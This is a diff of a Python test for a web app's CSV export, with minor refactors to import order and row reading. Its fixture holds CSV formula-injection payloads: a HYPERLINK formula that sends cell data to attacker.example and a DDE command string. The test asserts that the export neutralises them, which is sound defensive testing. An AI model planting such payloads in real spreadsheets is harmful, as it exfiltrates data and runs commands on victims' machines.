@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from sqlalchemy import text
 
 from tests.conftest import run_cli
-from tests.web.conftest import csrf_token, make_app, sign_in, EDITOR
+from tests.web.conftest import EDITOR, csrf_token, make_app, sign_in
 
 HOSTILE = {"lead": '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
            "with_whom": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)",
@@ -46,7 +46,7 @@ def test_a_formula_in_the_log_is_inert_in_the_csv_export(editor: FlaskClient) ->
     assert add(editor, **HOSTILE).status_code == 302
     response = editor.get("/log/export.csv")
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset (F18)
-    row = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))[0]
+    row = next(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
     for name, value in HOSTILE.items():
         assert row[name] == "'" + value
 
